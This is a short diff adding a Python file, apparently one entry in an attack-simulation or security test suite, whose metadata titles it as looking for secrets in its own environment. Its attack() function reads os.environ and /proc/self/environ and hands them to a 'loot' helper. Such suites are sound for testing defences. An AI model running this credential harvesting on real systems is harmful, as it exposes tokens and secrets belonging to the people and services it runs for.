@@ -1,0 +1,11 @@
+# /// attack
+# title = "Looks for secrets in its own environment"
+# rows = ["R7", "I7"]
+# ///
+import os
+
+from loot import loot
+
+
+def attack(*arguments, **keywords):
+    return loot(os.environ, open("/proc/self/environ", "rb").read())
